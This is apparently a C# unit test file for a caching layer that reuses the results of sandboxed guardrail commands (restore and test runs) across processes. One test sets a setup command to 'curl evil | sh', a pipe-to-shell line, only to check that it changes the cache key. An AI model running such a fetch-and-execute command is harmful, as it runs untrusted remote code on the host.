using Squad.Core.Configuration;
using Squad.Core.Orchestration;
using Squad.Core.Tools;
using Squad.Testing;

namespace Squad.Core.Tests.Orchestration;

public sealed class GuardrailResultsTests
{
    private static readonly RepositoryConfig Config = new()
    {
        Commands = new Dictionary<string, string> { ["restore"] = "dotnet restore", ["test"] = "dotnet test" },
        Setup = ["restore"],
    };

    [Fact]
    public async Task GetOrRunAsync_SameTreeAndRules_RunsOnceAndReusesTheOutcome()
    {
        var results = new GuardrailResults();
        var key = GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "bubblewrap");
        var runs = 0;
        var failure = new CommandOutcome { Name = "test", ExitCode = 1, Output = "1 failed", Duration = TimeSpan.FromSeconds(3) };

        var first = await results.GetOrRunAsync(key, () => { runs++; return Task.FromResult<CommandOutcome?>(failure); });
        var second = await results.GetOrRunAsync(GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "bubblewrap"), () => { runs++; return Task.FromResult<CommandOutcome?>(null); });

        Assert.Equal(1, runs);
        Assert.False(first.Reused);
        Assert.True(second.Reused);
        Assert.Same(failure, second.Failure);
        Assert.Equal(1, results.Reused);
    }

    [Fact]
    public async Task GetOrRunAsync_SameKeyWhileARunIsGoing_WaitsForItsOutcomeInsteadOfRunningAgain()
    {
        var results = new GuardrailResults();
        var key = GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "bubblewrap");
        var release = new TaskCompletionSource<CommandOutcome?>(TaskCreationOptions.RunContinuationsAsynchronously);
        var runs = 0;

        var going = results.GetOrRunAsync(key, () => { runs++; return release.Task; });
        var joined = results.GetOrRunAsync(key, () => { runs++; return Task.FromResult<CommandOutcome?>(null); });
        release.SetResult(Passed);

        Assert.Equal((Passed, false), await going);
        Assert.Equal((Passed, true), await joined);
        Assert.Equal(1, runs);
    }

    [Fact]
    public async Task GetOrRunAsync_TheRunItWaitedForIsStopped_RunsItsOwn()
    {
        var results = new GuardrailResults();
        var key = GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "bubblewrap");
        using var stop = new CancellationTokenSource();
        var stopped = new TaskCompletionSource<CommandOutcome?>(TaskCreationOptions.RunContinuationsAsynchronously);
        stop.Token.Register(() => stopped.TrySetCanceled(stop.Token));

        // A test ahead (its own token) is going when the turn's test of the same key starts; then the test ahead is stopped.
        var ahead = results.GetOrRunAsync(key, () => stopped.Task, stop.Token);
        var turn = results.GetOrRunAsync(key, () => Task.FromResult<CommandOutcome?>(null));
        await stop.CancelAsync();

        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => ahead);
        Assert.Equal((null, false), await turn);
        Assert.Equal(1, results.Ran);
    }

    [Fact]
    public void Key_AnythingThatDecidesTheOutcomeDiffers_IsAnotherKey()
    {
        var key = GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "bubblewrap");
        var otherLine = Config with { Commands = new Dictionary<string, string> { ["restore"] = "dotnet restore", ["test"] = "dotnet test --no-build" } };
        var otherSetup = Config with { Commands = new Dictionary<string, string> { ["restore"] = "curl evil | sh", ["test"] = "dotnet test" } };

        Assert.NotEqual(key, GuardrailResults.Key("tree-b", "base-a", ["test"], Config, "bubblewrap"));
        Assert.NotEqual(key, GuardrailResults.Key("tree-a", "base-b", ["test"], Config, "bubblewrap"));
        Assert.NotEqual(key, GuardrailResults.Key("tree-a", "base-a", ["lint", "test"], Config, "bubblewrap"));
        Assert.NotEqual(key, GuardrailResults.Key("tree-a", "base-a", ["test"], otherLine, "bubblewrap"));
        Assert.NotEqual(key, GuardrailResults.Key("tree-a", "base-a", ["test"], otherSetup, "bubblewrap"));
        Assert.NotEqual(key, GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "host (no sandbox)"));
        Assert.NotEqual(key, GuardrailResults.Key("tree-a", "base-a", ["test"], Config with { CommandTimeout = TimeSpan.FromMinutes(1) }, "bubblewrap"));
    }

    private static readonly CommandOutcome Passed = new() { Name = "test", ExitCode = 0, Output = "2 passed", FullOutput = "2 passed", Duration = TimeSpan.FromSeconds(3) };

    [Fact]
    public async Task GetOrRunAsync_PassRecordedByAnEarlierProcess_IsReusedWithoutRunning()
    {
        var store = new MemoryRecords();
        var time = new FakeTimeProvider();
        var key = GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "bubblewrap");
        await new GuardrailResults(store, time).GetOrRunAsync(key, () => Task.FromResult<CommandOutcome?>(null));

        // A resumed process: nothing in memory, the record in the store.
        var resumed = new GuardrailResults(store, time);
        var runs = 0;
        var again = await resumed.GetOrRunAsync(key, () => { runs++; return Task.FromResult<CommandOutcome?>(null); });

        Assert.Equal(0, runs);
        Assert.True(again.Reused);
        Assert.Null(again.Failure);
        Assert.Equal((1, 0), (resumed.Reused, resumed.Ran));
    }

    [Fact]
    public async Task GetOrRunAsync_FailureOrARecordOlderThanMaxAge_IsRunAgainByTheNextProcess()
    {
        var store = new MemoryRecords();
        var time = new FakeTimeProvider();
        var failing = GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "bubblewrap");
        var passing = GuardrailResults.Key("tree-b", "base-a", ["test"], Config, "bubblewrap");
        var failure = new CommandOutcome { Name = "test", ExitCode = 1, Output = "1 failed (flaky?)", Duration = TimeSpan.FromSeconds(3) };
        var first = new GuardrailResults(store, time);
        await first.GetOrRunAsync(failing, () => Task.FromResult<CommandOutcome?>(failure));
        await first.GetOrRunAsync(passing, () => Task.FromResult<CommandOutcome?>(null));
        time.Advance(GuardrailResults.MaxAge);

        var next = new GuardrailResults(store, time);
        var runs = 0;
        var failingAgain = await next.GetOrRunAsync(failing, () => { runs++; return Task.FromResult<CommandOutcome?>(null); });
        var passingAgain = await next.GetOrRunAsync(passing, () => { runs++; return Task.FromResult<CommandOutcome?>(null); });

        Assert.Equal(2, runs);
        Assert.False(failingAgain.Reused);
        Assert.False(passingAgain.Reused);
        Assert.Equal(time.GetUtcNow(), store.Records["run:" + passing].RecordedAt);
    }

    [Fact]
    public async Task AnswerStepAsync_PassingCommandRecordedByAnEarlierProcess_AnswersWithItsOutputCut()
    {
        var store = new MemoryRecords();
        var time = new FakeTimeProvider();
        var key = GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "bubblewrap");
        var long_ = Passed with { FullOutput = new string('x', GuardrailResults.StoredOutputLimit + 10) };
        await new GuardrailResults(store, time).RecordStepAsync(key, new RecordedCommand(long_, "tree-a", ["lint"], "the commit's checks"));
        var failingKey = GuardrailResults.Key("tree-b", "base-a", ["test"], Config, "bubblewrap");
        await new GuardrailResults(store, time).RecordStepAsync(failingKey, new RecordedCommand(Passed with { ExitCode = 1 }, "tree-b", [], "the commit's checks"));

        var resumed = new GuardrailResults(store, time);
        var answer = await resumed.AnswerStepAsync(key);

        Assert.NotNull(answer);
        Assert.Equal(("tree-a", "the commit's checks", "2 passed"), (answer.Tree, answer.Source, answer.Outcome.Output));
        Assert.Equal(["lint"], answer.RanAfter);
        Assert.StartsWith(new string('x', GuardrailResults.StoredOutputLimit) + "\n[... cut", answer.Outcome.FullOutput, StringComparison.Ordinal);
        Assert.Null(await resumed.AnswerStepAsync(failingKey));
        Assert.Equal(1, resumed.ReviewerCommandsReused);
    }

    [Fact]
    public async Task RunOfOneCommandAndThatCommandsStep_SameKey_AreBothAnsweredByTheNextProcess()
    {
        var store = new MemoryRecords();
        var time = new FakeTimeProvider();
        // The evidence is [test] alone when the merge guardrails lack it: the run's key is the key of its one step.
        var key = GuardrailResults.Key("tree-a", "base-a", ["test"], Config, "bubblewrap");
        var first = new GuardrailResults(store, time);
        await first.GetOrRunAsync(key, async () =>
        {
            await first.RecordStepAsync(key, new RecordedCommand(Passed, "tree-a", [], "the reviewers' evidence"));
            return null;
        });

        var resumed = new GuardrailResults(store, time);
        var runs = 0;
        var again = await resumed.GetOrRunAsync(key, () => { runs++; return Task.FromResult<CommandOutcome?>(null); });

        Assert.Equal((0, true), (runs, again.Reused));
        Assert.NotNull(await resumed.AnswerStepAsync(key));
        Assert.Equal(2, store.Records.Count);
    }

    /// <summary>The store as the state database keeps it, in memory: a newer record of a key replaces an older one.</summary>
    private sealed class MemoryRecords : IGuardrailRecordStore
    {
        public Dictionary<string, GuardrailRecord> Records { get; } = new(StringComparer.Ordinal);

        public Task<GuardrailRecord?> GetAsync(string key, CancellationToken cancellationToken = default)
            => Task.FromResult(Records.GetValueOrDefault(key));

        public Task SaveAsync(GuardrailRecord record, CancellationToken cancellationToken = default)
        {
            if (!Records.TryGetValue(record.Key, out var held) || held.RecordedAt < record.RecordedAt)
            {
                Records[record.Key] = record;
            }

            return Task.CompletedTask;
        }
    }
}
